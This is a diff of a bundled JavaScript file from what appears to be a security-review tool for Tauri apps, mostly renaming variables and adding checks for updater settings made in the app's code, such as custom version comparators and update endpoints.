@@ -26830,8 +29765,8 @@ var LISTS = /* @__PURE__ */ new Set([
   "--disable-blink-features",
   "--enable-blink-features"
 ]);
-function switchesIn(text2) {
-  return (text2.match(/(?:"[^"]*"|[^\s"])+/g) ?? []).flatMap((written6) => {
+function switchesIn(text3) {
+  return (text3.match(/(?:"[^"]*"|[^\s"])+/g) ?? []).flatMap((written6) => {
     const [, name = "", value] = /^(?:--|-|\/)([^=]*)(?:=([\s\S]*))?$/.exec(written6.replaceAll('"', "")) ?? [];
     if (name === "") return [];
     const key = `--${name.toLowerCase()}`;
@@ -26847,13 +29782,13 @@ var setting = {
   name: "cargo-feature-added",
   rule: "config/cargo-feature-added",
   covers: [],
-  inConfiguration: (project, platform) => FEATURES.flatMap(({ crate: crate2, names: names2, ...rest2 }) => {
+  inConfiguration: (project, platform) => FEATURES.flatMap(({ crate: crate2, names: names3, ...rest2 }) => {
     const features = featuresOf(project, crate2, platform);
-    const name = names2.find((each) => features.has(each));
+    const name = names3.find((each) => features.has(each));
     const at2 = name === void 0 ? void 0 : features.get(name);
     if (name === void 0 || at2 === void 0) return [];
     const written6 = `${crate2} = { features = ["${name}"] }`;
-    return [{ extent: `${crate2}/${names2[0]}`, written: written6, at: at2, ...rest2 }];
+    return [{ extent: `${crate2}/${names3[0]}`, written: written6, at: at2, ...rest2 }];
   })
 };
 var cargo_feature_added_default = setting;
@@ -26950,8 +29885,8 @@ var INSPECTOR = {
 };
 
 // src/readers/tauri-config/plugin-guard.ts
-function pluginGuard({ name, rule, ...guard }) {
-  const { plugin, part, key, guards, since, alwaysFrom, happens } = guard;
+function pluginGuard({ name, rule, ...guard2 }) {
+  const { plugin, part, key, guards, since, alwaysFrom, happens } = guard2;
   const crate2 = `tauri-plugin-${plugin}`;
   return {
     name,
@@ -27011,22 +29946,22 @@ var ONCE_FALSE = {
   shown: "false"
 };
 var UNLESS_TRUE = { when: (value) => !isTrue(value), shown: "false" };
-function unless(guard, byDefault) {
-  return { when: (value) => asString(value) !== guard, shown: JSON.stringify(byDefault) };
+function unless(guard2, byDefault) {
+  return { when: (value) => asString(value) !== guard2, shown: JSON.stringify(byDefault) };
 }
-function byKey({ key, opens: opens3, happens, comesWith, ...setting10 }) {
+function byKey({ key, opens: opens3, happens, comesWith, ...setting12 }) {
   return {
-    ...setting10,
+    ...setting12,
     covers: Object.values(key).filter((each) => each !== null),
     inConfiguration(project, platform) {
       const here = project.major === 1 ? key.v1 : key.v2;
       if (here === null) return [];
       const config = project.config(platform);
-      const names2 = here.split(".");
-      const value = names2.reduce(configKey, config);
+      const names3 = here.split(".");
+      const value = names3.reduce(configKey, config);
       if (!opens3.when(value)) return [];
       const written6 = `${here}: ${opens3.shown}`;
-      const granted = { ...happens, extent: "", written: written6, at: placeOfKey(config, ...names2) };
+      const granted = { ...happens, extent: "", written: written6, at: placeOfKey(config, ...names3) };
       return [comesWith === void 0 ? granted : { ...granted, comesWith }];
     }
   };
@@ -27126,7 +30061,7 @@ function guardedBy(values) {
 var whatIsListed = (value) => {
   const entries = (value ?? "").toLowerCase().split(",").map((entry) => entry.trim());
   if (entries.includes("*")) return "all";
-  return entries.filter((entry) => entry !== "").map((text2) => ({ text: text2, isWhole: false }));
+  return entries.filter((entry) => entry !== "").map((text3) => ({ text: text3, isWhole: false }));
 };
 var whatIsTrue = (value) => value?.toLowerCase() === "true" ? "all" : [];
 var whatIsBelow = (value) => {
@@ -27195,7 +30130,7 @@ function policiesIn(value) {
 
 // src/readers/tauri-config/settings/header-weakened.ts
 var ELSEWHERE2 = "Pages of other origins";
-var HEADERS = [
+var HEADERS2 = [
   {
     name: "Permissions-Policy",
     open: openFeatures,
@@ -27270,7 +30205,7 @@ var setting4 = {
   name: "header-weakened",
   rule: "config/header-weakened",
   covers: ["app.security.headers.**"],
-  inConfiguration: (project, platform) => HEADERS.flatMap((header) => opened(project, platform, header))
+  inConfiguration: (project, platform) => HEADERS2.flatMap((header) => opened(project, platform, header))
 };
 var header_weakened_default = setting4;
 function opened(project, platform, header) {
@@ -27283,19 +30218,19 @@ function opened(project, platform, header) {
   const all = { extent: name, subject, action, example, written: written6, at: at2 };
   const whole2 = open(void 0) === "all" ? { ...all, isWhole: true, comesWith: "app" } : { ...all, isWhole: true };
   if (openness === "all") return [whole2];
-  return openness.map(({ text: text2, isWhole: isWhole2, inWords: inWords4 = code(text2) }) => ({
+  return openness.map(({ text: text3, isWhole: isWhole2, inWords: inWords4 = code(text3) }) => ({
     ...whole2,
     isWhole: isWhole2,
-    extent: `${name}: ${text2}`,
+    extent: `${name}: ${text3}`,
     action: `${action} (${inWords4})`
   }));
 }
 function sentAs(project, name, value) {
   if (project.major === 1) return void 0;
   const isMisspelt = name === "Permissions-Policy" && isBefore(project.locked("tauri-utils")?.version, "2.10.0");
-  return isMisspelt ? void 0 : textOf5(value)?.trim();
+  return isMisspelt ? void 0 : textOf6(value)?.trim();
 }
-function textOf5(value) {
+function textOf6(value) {
   if (value?.kind === "array")
     return stringsOf(value).map((item) => item.value).join(", ");
   if (value?.kind !== "object") return asString(value);
@@ -27317,23 +30252,23 @@ var isolation_removed_default = byKey({
 });
 
 // src/readers/tauri-config/minisign-key.ts
-function updaterKey(text2) {
-  if (text2.length > LONGEST6) return { kind: "unclear" };
-  const [, second] = linesOf(textIn3(text2) ?? "");
+function updaterKey(text3) {
+  if (text3.length > LONGEST10) return { kind: "unclear" };
+  const [, second] = linesOf2(textIn3(text3) ?? "");
   if (second === void 0) return { kind: "refused" };
   const isOpen4 = second.endsWith("\r");
   const key = keyIn(isOpen4 ? second.slice(0, -1) : second) ?? { kind: "refused" };
   return isOpen4 && key.kind === "key" ? { kind: "unclear" } : key;
 }
-var LONGEST6 = 16384;
-function linesOf(text2) {
-  const parts = text2.split("\n");
+var LONGEST10 = 16384;
+function linesOf2(text3) {
+  const parts = text3.split("\n");
   const last = parts.pop() ?? "";
   const lines2 = parts.map((line) => line.endsWith("\r") ? line.slice(0, -1) : line);
   return last === "" ? lines2 : [...lines2, last];
 }
-function textIn3(base64) {
-  const bytes = bytesIn(base64);
+function textIn3(base642) {
+  const bytes = bytesIn(base642);
   if (bytes === void 0) return void 0;
   try {
     return new TextDecoder("utf-8", { fatal: true, ignoreBOM: true }).decode(bytes);
@@ -27341,9 +30276,9 @@ function textIn3(base64) {
     return void 0;
   }
 }
-function bytesIn(base64) {
-  const bytes = Buffer.from(base64, "base64");
-  return bytes.toString("base64") === base64 ? bytes : void 0;
+function bytesIn(base642) {
+  const bytes = Buffer.from(base642, "base64");
+  return bytes.toString("base64") === base642 ? bytes : void 0;
 }
 function keyIn(line) {
   const bytes = bytesIn(line);
@@ -27386,9 +30321,9 @@ var key_trusted_default = ofUpdater({
   covers: ["plugins.updater.pubkey", "tauri.updater.pubkey"],
   grants({ settings: settings2, path }) {
     const written6 = member(settings2, "pubkey");
-    const text2 = asString(written6);
-    if (written6 === void 0 || text2 === void 0) return [];
-    const key = updaterKey(text2);
+    const text3 = asString(written6);
+    if (written6 === void 0 || text3 === void 0) return [];
+    const key = updaterKey(text3);
     if (key.kind !== "key") return [];
     return [
       {
@@ -27396,7 +30331,7 @@ var key_trusted_default = ofUpdater({
         subject: `Whoever holds the key ${code(key.number)}`,
         action: "sign what the app installs as its update",
         example: `minisign -Vm update.tar.gz -P ${key.line}`,
-        written: `${path}.pubkey: ${JSON.stringify(short(text2, 60))}`,
+        written: `${path}.pubkey: ${JSON.stringify(short(text3, 60))}`,
         at: written6.at
       }
     ];
@@ -27510,8 +30445,8 @@ var redirects_unscoped_default = pluginGuard({
 // src/readers/tauri-config/frontend-url.ts
 function frontendUrl(project, platform) {
   const build = member(project.config(platform), "build");
-  const text2 = asString(configKey(build, frontendKey(project)));
-  return text2 === void 0 ? void 0 : asUrl(text2);
+  const text3 = asString(configKey(build, frontendKey(project)));
+  return text3 === void 0 ? void 0 : asUrl(text3);
 }
 function frontendKey({ major }) {
   return major === 1 ? "distDir" : "frontendDist";
@@ -27573,21 +30508,88 @@ function ownOrigin(platform, isHttps) {
   const isScheme = platform !== "windows" && platform !== "android";
   return isScheme ? "tauri://localhost" : `${isHttps ? "https" : "http"}://tauri.localhost`;
 }
-function shownBy(text2, pages) {
-  const url = asUrl(text2);
-  if (url !== void 0 || !URL.canParse(text2, pages)) return url;
-  const joined8 = new URL(text2, pages);
+function shownBy(text3, pages) {
+  const url = asUrl(text3);
+  if (url !== void 0 || !URL.canParse(text3, pages)) return url;
+  const joined8 = new URL(text3, pages);
   const isOwn3 = joined8.host === new URL(pages).host || joined8.protocol === "tauri:";
   return isOwn3 || joined8.host === "" ? void 0 : joined8;
 }
 
+// src/readers/tauri-config/updater-code.ts
+var METHODS2 = [
+  "configure_client",
+  "default_version_comparator",
+  "endpoints",
+  "executable_path",
+  "installer_arg",
+  "installer_args",
+  "pubkey",
+  "restore_update",
+  "should_install",
+  "version_comparator"
+];
+function updaterInCode(project) {
+  if (!hasUpdater(project)) return [];
+  return mentionsOf(project, METHODS2).filter((mention) => isOfUpdater(project, mention)).map((mention, position) => setInCode(project, mention, position < MOST_FOLLOWED));
+}
+function decidedInCode(project, methods, words3) {
+  if (!hasUpdater(project)) return [];
+  const calls = codeCalls(project, methods, (mention2) => isOfUpdater(project, mention2));
+  const [first] = calls.filter((call2) => !isNewer(givenTo2(call2)));
+  if (first === void 0) return [];
+  const { mention, only } = first;
+  const written6 = `${mention.word}(${short(givenTo2(first), 80)})`;
+  return [{ ...words3, extent: IN_CODE, written: written6, at: mention.at, only }];
+}
+function givenTo2({ arguments: given2 }) {
+  return given2.length === 0 ? "…" : given2.map(({ shown: shown2 }) => shown2).join(", ");
+}
+function isNewer(closure) {
+  const [, current, release, newer, older] = /^(?:move)?\|(\w+),(\w+)\|(\w+)\.version>(\w+)$/.exec(closure.replace(/\s+/g, "")) ?? [];
+  return newer !== void 0 && newer === release && older === current;
+}
+function filesOfUpdater(project) {
+  updaterInCode(project);
+  return isRestedOn(project);
+}
+var MOST_FOLLOWED = 50;
+function hasUpdater(project) {
+  return PLATFORMS.some((platform) => updaterOf(project, platform)?.builtInAt !== void 0);
+}
+function isOfUpdater(project, mention) {
+  return isMethod(mention) && !isOwnMethod(project, mention);
+}
+function isMethod(mention) {
+  const { kind } = useOf(mention);
+  const isQualified = isMark(mention.file.source.tokens[mention.index - 1], "::");
+  return kind === "method" || isQualified && kind !== "declared";
+}
+function setInCode(project, mention, isFollowed) {
+  const { file: file2, index, word: word2, at: at2 } = mention;
+  const rests = mention.isInMacro || !isFollowed ? allCodeOf(project) : wordsOf(
+    statementsAbout(file2, index).map((part) => argumentSliceOf(project, file2.rust.file.path, part))
+  );
+  const message = `The app's code sets ${code(word2)} of the updater while it runs, which isn't followed. Set it in the configuration, or compare the call by hand.`;
+  return gapAt(at2, { kind: "dynamic", rests: wordsOf("updater in code", word2, rests), message });
+}
+
 // src/readers/tauri-config/settings/rollback-allowed.ts
-var rollback_allowed_default = ofUpdater({
+var inConfiguration = ofUpdater({
   name: "rollback-allowed",
   rule: "updates/rollback-allowed",
   covers: ["plugins.updater.requireSignedVersion", "plugins.updater.allowDowngrades"],
   grants: ({ settings: settings2 }, project) => project.major === 1 ? [] : rollback(project, settings2)
 });
+var setting8 = {
+  ...inConfiguration,
+  inCode: (project) => decidedInCode(project, ["version_comparator", "default_version_comparator"], {
+    subject: "The updater",
+    action: "install what the app's code takes for newer, which may be an older release",
+    example: '{ "version": "0.0.1", "url": "https://example.com/app-0.0.1.tar.gz" }'
+  })
+};
+var rollback_allowed_default = setting8;
 function rollback(project, settings2) {
   const signed = configKey(settings2, "requireSignedVersion");
   const older = configKey(settings2, "allowDowngrades");
@@ -27609,7 +30611,7 @@ function rollback(project, settings2) {
   }
   if (asBoolean(older) === true && updaterKnows(project, "2.12.0")) {
     found9.push({
-      ...OLDER,
+      ...OLDER2,
       ...common2,
       isWhole: true,
       written: "plugins.updater.allowDowngrades: true",
@@ -27618,7 +30620,7 @@ function rollback(project, settings2) {
   }
   return [...found9, ...askedByPages(project, settings2)];
 }
-var OLDER = {
+var OLDER2 = {
   extent: "older-version",
   subject: "The updater",
   action: "install a release older than the one that runs"
@@ -27629,8 +30631,8 @@ function askedByPages(project, settings2) {
   if (isBefore(locked.version, "2.8.0") || !isBefore(locked.version, "2.12.0")) return [];
   return [
     {
-      ...OLDER,
-      extent: `${OLDER.extent}: asked by a page`,
+      ...OLDER2,
+      extent: `${OLDER2.extent}: asked by a page`,
       subject: "A page with permissions of the updater",
       action: "have the updater install a release older than the one that runs",
       example: "check({ allowDowngrades: true })",
@@ -27642,24 +30644,24 @@ function askedByPages(project, settings2) {
 }
 
 // src/readers/tauri-config/settings/scope-opened-by-code.ts
-var setting8 = {
+var setting9 = {
   name: "scope-opened-by-code",
   rule: "config/scope-opened-by-code",
   covers: [],
   inCode: (project) => openingCalls(project).map(openedScope),
   forbiddenByCode: forbiddenPaths
 };
-var scope_opened_by_code_default = setting8;
+var scope_opened_by_code_default = setting9;
 var FORBIDS = ["forbid_directory", "forbid_file"];
 function forbiddenPaths(project) {
   return callsOfScopes(project, FORBIDS).filter(({ only }) => only === null || only.kind === "reach").map(({ mention, arguments: [path], only }) => {
     const { file: file2, index, word: word2, at: at2 } = mention;
     const isAsset = scopeAt(file2, index) === "asset";
     const where = path?.text === void 0 ? "a path that the app's code computes" : code(path.text);
-    const named9 = path?.text === void 0 ? "" : ` ${path.text}`;
+    const named10 = path?.text === void 0 ? "" : ` ${path.text}`;
     const shown2 = short(path?.text ?? "…", 80);
     return {
-      extent: `${LIFTED}${isAsset ? "asset" : "fs"} ${word2}${named9}`,
+      extent: `${LIFTED}${isAsset ? "asset" : "fs"} ${word2}${named10}`,
       subject: subjectOf(isAsset),
       action: `reach ${where}, where a scope allows it and code forbade it`,
       example: exampleOf(isAsset, shown2),
@@ -27674,13 +30676,13 @@ function openedScope({ mention, arguments: [path, recursive], only }) {
   const isAsset = scopeAt(file2, index) === "asset";
   const isFile2 = word2 === "allow_file";
   const isFlat = !isFile2 && recursive?.expression.kind === "boolean" && !recursive.expression.value;
-  const named9 = path?.text === void 0 ? "" : ` ${withoutParts(path.text)}`;
+  const named10 = path?.text === void 0 ? "" : ` ${withoutParts(path.text)}`;
   const shown2 = `${short(path?.text ?? "…", 80)}${isFile2 ? "" : isFlat ? "/a.txt" : "/a/b.txt"}`;
   const what = isFile2 ? "" : isFlat ? "the files in " : "everything in ";
   const where = path?.text === void 0 ? "a path that the app's code computes" : code(path.text);
   const scope = isAsset ? "asset_protocol_scope" : "fs_scope";
   return {
-    extent: `${isAsset ? "asset" : "fs"} ${word2}${named9}${isFlat ? ": its own files" : ""}`,
+    extent: `${isAsset ? "asset" : "fs"} ${word2}${named10}${isFlat ? ": its own files" : ""}`,
     isWhole: !isFlat,
     subject: subjectOf(isAsset),
     action: `reach ${what}${where}`,
@@ -27722,7 +30724,7 @@ var served_on_localhost_default = byCrate({
 });
 
 // src/readers/tauri-config/settings/sidecar-added.ts
-var setting9 = {
+var setting10 = {
   name: "sidecar-added",
   rule: "config/sidecar-added",
   covers: ["bundle.externalBin.**", "tauri.bundle.externalBin.**"],
@@ -27742,7 +30744,7 @@ var setting9 = {
     });
   }
 };
-var sidecar_added_default = setting9;
+var sidecar_added_default = setting10;
 function placeOf4(program, root) {
   const parts = program.replaceAll("\\", "/").split("/").filter((part) => part !== "" && part !== ".");
   const up = parts.findIndex((part) => part !== "..");
@@ -27753,7 +30755,7 @@ function placeOf4(program, root) {
 }
 
 // src/readers/tauri-config/settings/source-added.ts
-var source_added_default = ofUpdater({
+var inConfiguration2 = ofUpdater({
   name: "source-added",
   rule: "updates/source-added",
   covers: ["plugins.updater.endpoints.**", "tauri.updater.endpoints.**"],
@@ -27769,6 +30771,15 @@ var source_added_default = ofUpdater({
     };
   })
 });
+var setting11 = {
+  ...inConfiguration2,
+  inCode: (project) => decidedInCode(project, ["endpoints"], {
+    subject: "The app's code",
+    action: "ask other servers for updates than the configuration names",
+    example: "app.updater_builder().endpoints(…)"
+  })
+};
+var source_added_default = setting11;
 
 // src/readers/tauri-config/settings/traffic-proxied.ts
 var traffic_proxied_default = perWindow({
@@ -27777,19 +30788,19 @@ var traffic_proxied_default = perWindow({
   keys: ["proxyUrl"],
   grants({ value, label, path }, platform) {
     const written6 = configKey(value, "proxyUrl");
-    const text2 = asString(written6);
-    if (text2 === void 0 || written6 === void 0) return [];
+    const text3 = asString(written6);
+    if (text3 === void 0 || written6 === void 0) return [];
     const hasArguments = asString(configKey(value, "additionalBrowserArgs")) !== void 0;
     if (platform === "windows" && hasArguments) return [];
-    const url = asUrl(text2);
-    const origin = url === void 0 ? text2 : originOf(url);
+    const url = asUrl(text3);
+    const origin = url === void 0 ? text3 : originOf(url);
     return [
       {
         extent: `${label} ${origin}`,
         subject: `A proxy at ${code(origin)}`,
         action: `carry what window ${code(label)} loads and sends`,
         example: `CONNECT example.com:443 via ${short(origin)}`,
-        written: `${path}.proxyUrl: ${JSON.stringify(short(text2))}`,
+        written: `${path}.proxyUrl: ${JSON.stringify(short(text3))}`,
         at: written6.at
       }
     ];
@@ -27807,7 +30818,7 @@ var transport_unchecked_default = ofUpdater({
   ],
   grants({ settings: settings2 }, project) {
     if (project.major === 1) return [];
-    return SWITCHES.flatMap(([key, since, action, example]) => {
+    return SWITCHES2.flatMap(([key, since, action, example]) => {
       const written6 = configKey(settings2, key);
       if (written6 === void 0 || asBoolean(written6) !== true || !updaterKnows(project, since)) return [];
       return [
@@ -27823,7 +30834,7 @@ var transport_unchecked_default = ofUpdater({
     });
   }
 });
-var SWITCHES = [
+var SWITCHES2 = [
   [
     "dangerousInsecureTransportProtocol",
     "2.0.0",
@@ -27895,54 +30906,18 @@ var settings = [
 
 // src/readers/tauri-config/settings-in-code.ts
 function settingsInCode(project) {
-  const known6 = found7.get(project);
-  if (known6 !== void 0) return known6;
-  const read7 = {
-    allowed: settings.flatMap(({ name, inCode: inCode2 }) => named5(name, inCode2?.(project))),
-    forbidden: settings.flatMap(({ name, forbiddenByCode }) => named5(name, forbiddenByCode?.(project)))
+  const known7 = found7.get(project);
+  if (known7 !== void 0) return known7;
+  const read9 = {
+    allowed: settings.flatMap(({ name, inCode: inCode2 }) => named6(name, inCode2?.(project))),
+    forbidden: settings.flatMap(({ name, forbiddenByCode }) => named6(name, forbiddenByCode?.(project)))
   };
-  found7.set(project, read7);
-  return read7;
+  found7.set(project, read9);
+  return read9;
 }
 var found7 = /* @__PURE__ */ new WeakMap();
-function named5(name, granted = []) {
+function named6(name, granted = []) {
   return granted.map((each) => [name, each]);
-}
-
-// src/readers/tauri-config/updater-code.ts
-var METHODS2 = [
-  "configure_client",
-  "default_version_comparator",
-  "endpoints",
-  "executable_path",
-  "installer_arg",
-  "installer_args",
-  "pubkey",
-  "restore_update",
-  "should_install",
-  "version_comparator"
-];
-function updaterInCode(project) {
-  if (PLATFORMS.every((platform) => updaterOf(project, platform)?.builtInAt === void 0)) return [];
-  return mentionsOf(project, METHODS2).filter((mention) => isMethod(mention) && !isOwnMethod(project, mention)).map((mention, position) => setInCode(project, mention, position < MOST_FOLLOWED));
-}
-function filesOfUpdater(project) {
-  updaterInCode(project);
-  return isRestedOn(project);
-}
-var MOST_FOLLOWED = 50;
-function isMethod(mention) {
-  const { kind } = useOf(mention);
-  const isQualified = isMark(mention.file.source.tokens[mention.index - 1], "::");
-  return kind === "method" || isQualified && kind !== "declared";
-}
-function setInCode(project, mention, isFollowed) {
-  const { file: file2, index, word: word2, at: at2 } = mention;
-  const rests = mention.isInMacro || !isFollowed ? allCodeOf(project) : wordsOf(
-    statementsAbout(file2, index).map((part) => argumentSliceOf(project, file2.rust.file.path, part))
-  );
-  const message = `The app's code sets ${code(word2)} of the updater while it runs, which isn't followed. Set it in the configuration, or compare the call by hand.`;
-  return gapAt(at2, { kind: "dynamic", rests: wordsOf("updater in code", word2, rests), message });
 }
 
 // src/readers/tauri-config/updater-key-gaps.ts
@@ -27950,16 +30925,16 @@ function unreadKeys(project) {
   const gaps = PLATFORMS.flatMap((platform) => {
     const found9 = updaterOf(project, platform);
     const written6 = found9 && member(found9.settings, "pubkey");
-    const text2 = asString(written6);
-    if (found9?.builtInAt === void 0 || written6 === void 0 || text2 === void 0 || text2 === "")
+    const text3 = asString(written6);
+    if (found9?.builtInAt === void 0 || written6 === void 0 || text3 === void 0 || text3 === "")
       return [];
-    return unreadKey(updaterKey(text2), text2, `${found9.path}.pubkey`, written6.at);
+    return unreadKey(updaterKey(text3), text3, `${found9.path}.pubkey`, written6.at);
   });
   return [...new Map(gaps.map((gap3) => [JSON.stringify(gap3), gap3])).values()];
 }
-function unreadKey({ kind }, text2, written6, at2) {
+function unreadKey({ kind }, text3, written6, at2) {
   if (kind === "key") return [];
-  const rests = wordsOf(written6, text2);
+  const rests = wordsOf(written6, text3);
   if (kind === "refused") {
     const message2 = `The updater can't decode ${code(written6)}, so that it refuses every update. Copy the public key as \`tauri signer generate\` prints it.`;
     return [gapAt(at2, { kind: "unsupported", rests, message: message2, blocking: false })];
@@ -27979,9 +30954,9 @@ var tauriConfig = {
     grants: [
       ...partsOnPlatforms(project),
       ...settingsOnPlatforms(project),
-      ...settingsInCode(project).allowed.map(([name, granted]) => grantOf(name, granted, EVERY_PLATFORM)),
+      ...settingsInCode(project).allowed.map(([name, granted]) => grantOf2(name, granted, EVERY_PLATFORM)),
       ...settingsInCode(project).forbidden.map(
-        ([name, granted]) => ({ ...grantOf(name, granted, EVERY_PLATFORM), kind: "guard" })
+        ([name, granted]) => ({ ...grantOf2(name, granted, EVERY_PLATFORM), kind: "guard" })
       )
     ],
     gaps: [
@@ -28001,20 +30976,20 @@ function filesOfCode(project) {
 }
 function settingsOnPlatforms(project) {
   return settings.flatMap(
-    (setting10) => onEachPlatform((platform) => grantedOn(platform, setting10, project)).map(
-      ([granted, platforms]) => grantOf(setting10.name, granted, platforms)
+    (setting12) => onEachPlatform((platform) => grantedOn(platform, setting12, project)).map(
+      ([granted, platforms]) => grantOf2(setting12.name, granted, platforms)
     )
   );
 }
-function grantedOn(platform, { platforms, inConfiguration }, project) {
+function grantedOn(platform, { platforms, inConfiguration: inConfiguration3 }, project) {
   if (platforms?.includes(platform) === false) return [];
-  return inConfiguration?.(project, platform) ?? [];
+  return inConfiguration3?.(project, platform) ?? [];
 }
-function grantOf(setting10, granted, platforms) {
+function grantOf2(setting12, granted, platforms) {
   return {
     domain: "config",
     kind: "setting",
-    setting: setting10,
+    setting: setting12,
     isWhole: false,
     comesWith: null,
     heededBy: null,
@@ -28023,7 +30998,7 @@ function grantOf(setting10, granted, platforms) {
   };
 }
 function partsOnPlatforms(project) {
-  return onEachPlatform((platform) => partsOf11(project, platform)).map(([part, platforms]) => ({
+  return onEachPlatform((platform) => partsOf13(project, platform)).map(([part, platforms]) => ({
     domain: "config",
     kind: "part",
     ...part,
@@ -28069,8 +31044,8 @@ function discoverApps(paths3) {
     const rank3 = rankOf(path);
     if (rank3 < 0) continue;
     const root = folderOf(path);
-    const known6 = configOf.get(root);
-    if (known6 === void 0 || rank3 < rankOf(known6)) configOf.set(root, path);
+    const known7 = configOf.get(root);
+    if (known7 === void 0 || rank3 < rankOf(known7)) configOf.set(root, path);
   }
   return [...configOf].map(([root, config]) => ({ root, config })).sort((a3, b5) => a3.root < b5.root ? -1 : 1);
 }
@@ -28079,7 +31054,7 @@ function rankOf(path) {
 }
 
 // src/engine/found-app.ts
-var DEEPEST10 = 3;
+var DEEPEST13 = 3;
 var PASSED_OVER = /(?:^|\/)(?:node_modules|target|\.[^/]+)(?:\/|$)/;
 var IGNORE_FILES = [".taurignore", ".gitignore"];
 function foundFrom(folder, apps, ignoring, work) {
@@ -28100,7 +31075,7 @@ function foldersOnTheWay(folder, apps) {
 function appsBelow(folder, apps) {
   return apps.filter(({ root }) => {
     const inside = below(folder, root);
-    return inside !== void 0 && inside.split("/").length <= DEEPEST10 && !PASSED_OVER.test(inside);
+    return inside !== void 0 && inside.split("/").length <= DEEPEST13 && !PASSED_OVER.test(inside);
   });
 }
 function compareWalked(a3, b5) {
@@ -28152,12 +31127,12 @@ var readBefore = /* @__PURE__ */ new WeakMap();
 async function readSide(tree, wanted, shared2) {
   const gaps = [];
   const files = /* @__PURE__ */ new Map();
-  const missing = [];
+  const missing2 = [];
   let bytes = 0;
   for (const entry of wanted) {
-    const known6 = shared2.get(keyOf3(entry));
+    const known7 = shared2.get(keyOf5(entry));
     bytes += entry.size;
-    if (known6 !== void 0) files.set(entry.path, known6);
+    if (known7 !== void 0) files.set(entry.path, known7);
     else if (entry.size > TREE_LIMITS.fileBytes || bytes > TREE_LIMITS.totalBytes) {
       gaps.push(
         gapIn(entry.path, {
@@ -28166,13 +31141,13 @@ async function readSide(tree, wanted, shared2) {
           message: `${code(entry.path)} is larger than what is read; nothing in it was compared.`
         })
       );
-    } else missing.push(entry);
+    } else missing2.push(entry);
   }
-  const blobs = missing.length === 0 ? /* @__PURE__ */ new Map() : await tree.read(missing);
-  for (const entry of missing) {
+  const blobs = missing2.length === 0 ? /* @__PURE__ */ new Map() : await tree.read(missing2);
+  for (const entry of missing2) {
     const bytesOfFile = blobs.get(entry.id);
-    const text2 = bytesOfFile && (isBinary(entry.path) ? "" : decode2(bytesOfFile));
-    if (text2 === void 0)
+    const text3 = bytesOfFile && (isBinary(entry.path) ? "" : decode2(bytesOfFile));
+    if (text3 === void 0)
       gaps.push(
         gapIn(entry.path, {
           kind: "unreadable",
@@ -28181,14 +31156,14 @@ async function readSide(tree, wanted, shared2) {
         })
       );
     else {
-      const file2 = { path: entry.path, id: entry.id, text: text2 };
-      shared2.set(keyOf3(entry), file2);
+      const file2 = { path: entry.path, id: entry.id, text: text3 };
+      shared2.set(keyOf5(entry), file2);
       files.set(entry.path, file2);
     }
   }
   return { files, gaps };
 }
-function keyOf3({ path, id }) {
+function keyOf5({ path, id }) {
   return `${id}\0${path}`;
 }
 function unreadable(path, present2) {
@@ -28222,35 +31197,35 @@ function onlyOneFolder(apps) {
   return new Set(apps.map(({ root }) => root)).size < 2;
 }
 function sameFiles(there, here) {
-  const names2 = (entries) => entries.map(({ path, id }) => `${id} ${path}`).sort(compareText).join("\n");
-  return names2(there) === names2(here);
+  const names3 = (entries) => entries.map(({ path, id }) => `${id} ${path}`).sort(compareText).join("\n");
+  return names3(there) === names3(here);
 }
 function identityIn({ root, config }, files) {
   const own = files.filter(({ path }) => folderOf(path) === root);
   const isManifest = ({ path }) => path === inFolder(root, "Cargo.toml");
   return {
     config: own.find(({ path }) => path === config)?.id ?? "",
-    names: own.filter((file2) => !isManifest(file2)).flatMap(namesIn3),
+    names: own.filter((file2) => !isManifest(file2)).flatMap(namesIn5),
     crate: own.filter(isManifest).flatMap(crateIn2)
   };
 }
 var TEMPLATE = "com.tauri.dev";
-function namesIn3(file2) {
+function namesIn5(file2) {
   const config = parsed3(file2);
   const at2 = (...keys) => pick(config, ...keys);
   const identifier = asString(at2("identifier")) ?? asString(at2("tauri", "bundle", "identifier"));
   const product = asString(configKey(config, "productName")) ?? asString(at2("package", "productName"));
   const binary = asString(configKey(config, "mainBinaryName"));
   return [
-    ...identifier === TEMPLATE ? [] : named6("identifier", identifier),
-    ...named6("name", product),
-    ...named6("program", binary)
+    ...identifier === TEMPLATE ? [] : named7("identifier", identifier),
+    ...named7("name", product),
+    ...named7("program", binary)
   ];
 }
 function crateIn2(file2) {
-  return named6("crate", asString(pick(parsed3(file2), "package", "name")));
+  return named7("crate", asString(pick(parsed3(file2), "package", "name")));
 }
-function named6(kind, name) {
+function named7(kind, name) {
   return name === void 0 || name === "" ? [] : [`${kind} ${name.toLowerCase()}`];
 }
 function parsed3(file2) {
@@ -28274,13 +31249,13 @@ function pairApps(base, head, identityOf7) {
   }
   const keys = [
     ({ config }) => [config],
-    ({ names: names2 }) => names2
+    ({ names: names3 }) => names3
   ];
-  for (const keysOf of keys) {
+  for (const keysOf2 of keys) {
     for (const app of [...right]) {
       if (left2.size === 0) break;
-      const mine = keysOf(identityOf7("head", app));
-      const matches3 = (side) => (other) => keysOf(identityOf7(side, other)).some((key) => mine.includes(key));
+      const mine = keysOf2(identityOf7("head", app));
+      const matches3 = (side) => (other) => keysOf2(identityOf7(side, other)).some((key) => mine.includes(key));
       const candidates2 = [...left2].filter(matches3("base"));
       const rivals = [...right].filter(matches3("head"));
       const [only] = candidates2;
@@ -28324,7 +31299,7 @@ function withTakeovers(pairs, identityOf7, folders, foundFrom2, turned) {
 function because(takesOver, isBeside = false) {
   return takesOver === void 0 ? [] : [{ takesOver, isBeside }];
 }
-var namesOnly = ({ names: names2 }) => names2;
+var namesOnly = ({ names: names3 }) => names3;
 var crateOnly = ({ crate: crate2 }) => crate2;
 function newlyShared(pair, other, namesOf4, identityOf7) {
   if (pair.head === null) return void 0;
@@ -28342,9 +31317,9 @@ function foundInPlace(pairs, folders, foundFrom2) {
   for (const folder of folders) {
     const [before2, after2] = [foundFrom2("base", folder), foundFrom2("head", folder)];
     if (before2 === void 0 || after2 === void 0) continue;
-    const isSame7 = pairs.some(({ base, head }) => base === before2 && head === after2);
+    const isSame8 = pairs.some(({ base, head }) => base === before2 && head === after2);
     const place = folder === "" ? "at the top of the repository" : `in ${code(folder)}`;
-    if (!isSame7)
+    if (!isSame8)
       found9.set(
         pairName(before2, after2),
         `The CLI of Tauri, started ${place}, builds this app now, and no longer ${nameOf6(before2)}.`
@@ -28363,11 +31338,11 @@ function withoutRepetition3(compared) {
     if (app.takesOver === null) return reviewed;
     const own = compared.filter((each) => each.app.takesOver === null && each.app.location === app.location);
     const said2 = new Set(own.flatMap((each) => each.reviewed.findings).map(findingName));
